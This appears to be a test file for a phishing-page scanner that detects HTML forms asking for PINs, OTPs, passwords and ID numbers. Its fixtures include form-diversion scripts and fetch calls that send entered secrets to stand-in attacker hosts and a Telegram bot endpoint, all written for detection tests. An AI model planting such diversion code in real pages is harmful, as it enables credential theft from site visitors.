"""The forms of a page that ask for secrets."""

from __future__ import annotations

import pytest
from hypothesis import given
from hypothesis import strategies as st

from cyberscan.model.facts.content import Pointer
from cyberscan.parse.html_bounds import TooElaborateError
from cyberscan.parse.matter.page import read

URL, ZONE = "https://www.contoh.go.test/a/b", "contoh.go.test"
AWAY = "https://jahat.example/k.php"
SECRET = '<input type="password" name="sandi">'


def forms(source: str) -> list[Pointer]:
    return [p for p in read(source, URL, ZONE).pointers if p.kind in {"form", "inquiry"}]


def form(source: str) -> Pointer:
    (found,) = forms(source)
    return found


@pytest.mark.parametrize(
    ("fields", "kind"),
    [
        (SECRET, "form"),
        ("<input name=cvv>", "form"),
        ("<input name=pin>", "inquiry"),
        ("<input name=otp type=tel>", "inquiry"),
        ("<input placeholder='Kode OTP'>", "inquiry"),
        ("<input aria-label='PIN ATM'>", "inquiry"),
        ("<label>PIN <input></label>", "inquiry"),
        ("<label for=a>PIN</label> <input id=a>", "inquiry"),
        ("<td>PIN</td><td><input>", "inquiry"),
        ("PIN <small>(6 angka)</small><input>", "inquiry"),
        ("<input name=nik><input name=no_kk><input name=ibu_kandung>", "inquiry"),
        ("<input type=text name=password>", "inquiry"),
        ("<input name=nik><input name=no_kk>", ""),
        ("<input name=q>", ""),
        ("<input type=email name=email>", ""),
        ("<input type=hidden name=pin>", ""),
        ("<input type=checkbox name=pin>", ""),
        ("<input name=pin disabled>", ""),
        ("<select name=pin></select>", ""),
        ("<textarea name=pin></textarea>", ""),
        (f"<p>Kami tidak pernah meminta PIN Anda {'x ' * 40}</p><input name=nama>", ""),
        ("<p>Kami tidak pernah meminta PIN</p><input name=nama>", ""),
        ("<a href=/lupa>Lupa kata sandi?</a><input name=email>", ""),
    ],
)
def test_which_forms_are_kept(fields: str, kind: str) -> None:
    source = f"<form action={AWAY}>{fields}</form>"
    assert [(f.kind, f.url) for f in forms(source)] == ([(kind, AWAY)] if kind else [])


def test_fields_without_a_form_are_one() -> None:
    found = form("<p>PIN</p><input name=a><p>OTP</p><input name=b><button onclick=k()>x</button>")
    assert (found.kind, found.url) == ("inquiry", URL)
    assert found.fields == ("a | PIN", "b | OTP")


def test_fields_without_a_form_say_what_stands_before_each() -> None:
    asked = "Masukkan kode OTP MyContoh 4-6 digit. Jangan beri tahu siapa pun"
    later = f"<div hidden><p>{asked}</p><input name=otp></div>"
    found = form(f"<p>Nomor HP</p><input name=hp>{later}<p>Bagikan laman ini</p>")
    assert found.says == f"Nomor HP. {asked}."
    assert found.fields == ("hp | Nomor HP", "otp")


@pytest.mark.parametrize(
    ("source", "fields"),
    [
        ("<input name=a placeholder='NIK'>", ("a | NIK",)),
        ("<label>Nomor <b>rekening</b></label><input name=a>", ("a | Nomor | rekening",)),
        ("<input name=a><input name=a>", ("a",)),
        (f"<input name={'a' * 70}>", ()),
        ("<input name=surel placeholder='nama@contoh.go.id'>", ("surel | [surel]",)),
    ],
)
def test_what_fields_are_called(source: str, fields: tuple[str, ...]) -> None:
    assert form(f"<form>{source}{SECRET}</form>").fields[: len(fields)] == fields


@pytest.mark.parametrize(
    ("source", "marks"),
    [
        ("<form action=/a>{}</form>", ()),
        ("<form action=mailto:a@b.example>{}</form>", ("mailed",)),
        ("<form><input type=hidden name=csrfmiddlewaretoken>{}</form>", ("token",)),
        ("<form><input type=hidden name=logintoken value=a>{}</form>", ("token",)),
        (f"<form><input type=hidden name={'0a' * 16} value=1>{{}}</form>", ("token",)),
        (f"<form><input type=hidden name={'0a' * 16} value=2>{{}}</form>", ()),
        ("<form><input type=hidden name=r value=https://www.contoh.go.test/x>{}</form>",
         ("returns",)),
        ("<form><input type=hidden name=r value=https://lain.example/x>{}</form>", ()),
        ("<form><input type=hidden name=r value=/x>{}</form>", ()),
    ],
)  # fmt: skip
def test_marks(source: str, marks: tuple[str, ...]) -> None:
    assert form(source.format(SECRET)).marks == marks


@pytest.mark.parametrize(
    "source",
    [
        "<form onsubmit=\"this.action='{}'\">{}</form>",
        "<form>{1}<button onclick='this.form.action=\"{0}\"'>a</button></form>",
        "<form>{1}</form><script>document.forms[0].action='{0}'</script>",
        "<form>{1}</form><script>document.forms[0].action = `{0}`;</script>",
        "<form>{1}</form><script>$('form').attr('action', '{0}')</script>",
        '<form>{1}</form><script>f.setAttribute("action","{0}")</script>',
        "<script>window.onload=function(){{f.action='{0}'}}</script><form>{1}</form>",
        "<form>{1}<button></button></form><script>b.formAction='{0}'</script>",
        "<form id=m>{1}</form><form><input name=q></form><script>m.action='{0}'</script>",
    ],
)
def test_scripts_that_send_a_form_elsewhere(source: str) -> None:
    own, away = forms(source.format(AWAY, SECRET))
    assert (own.host, own.marks) == ("www.contoh.go.test", ())
    assert (away.url, away.marks) == (AWAY, ("diverted", "script"))


@pytest.mark.parametrize(
    "source",
    [
        "<form>{1}</form><script>document.forms[0].action='/masuk'</script>",
        "<form>{1}</form><form id=q><input name=q></form><script>q.action='{0}'</script>",
        "<form>{1}</form><script>var action = '{0}'</script>",
        "<form onsubmit=\"return confirm('Kirim?')\">{1}</form>",
    ],
)
def test_scripts_that_do_not(source: str) -> None:
    assert form(source.format(AWAY, SECRET)).host == "www.contoh.go.test"


def test_the_key_to_a_chat_is_not_kept() -> None:
    bot = "https://api.telegram.org/bot123456789:AAE-x_yyyyyyyyyyyyyyyyyyyyyyyyyyyyyyy/sendMessage"
    for source in (
        f"<form action='{bot}'>{SECRET}</form>",
        f"<form onsubmit=\"this.action='{bot}'\">{SECRET}</form>",
        f"<form>{SECRET}</form><script>f.action='{bot}'</script>",
    ):
        found = forms(source)
        assert "api.telegram.org" in {f.host for f in found}
        assert "AAE-x_" not in repr(found)


PIECES = st.sampled_from(
    [
        "<form>", "</form>", f"<form action={AWAY}>", SECRET, "<input name=pin>", "PIN ", "<p>",
        "<input type=hidden name=_token>", "<button formaction=//x.example/>", "<table><tr><td>",
        "<script>f.action='//x.example/k'</script>", "<input form=m name=otp>", "<form id=m>",
        "<iframe srcdoc='<form><input name=pin></form>'></iframe>", "\x00", "é", "<select name=a>",
    ]
)  # fmt: skip


@given(st.lists(PIECES, max_size=25))
def test_any_row_of_forms_is_read(pieces: list[str]) -> None:
    for found in forms("".join(pieces)):
        assert len(found.says) <= 300
        assert len(found.fields) <= 20
        assert all(len(field) <= 80 for field in found.fields)


@pytest.mark.parametrize(
    "source",
    [
        "<form>" + "<input name=pin>" * 20_000,
        "<form><input name=pin></form>" * 4_000,
        "<form>" + "PIN <input>" * 20_000,
        "<input name=pin>" * 20_000,
        f"<form>{SECRET}</form><script>" + ".action='//a.b/" * 60_000 + "</script>",
        f"<form>{SECRET}</form><script>" + ".action" + " " * 900_000 + "</script>",
        "<form>" + "x " * 500_000 + SECRET,
        f"<form>{SECRET}" + "<button onclick=\"fetch('//a.example/',{body:b.value})\">" * 3_000,
    ],
    ids=range(8),
)
def test_hostile_forms_are_bounded(source: str) -> None:
    try:
        found = forms(source)
    except TooElaborateError:
        return
    assert len(found) <= 60
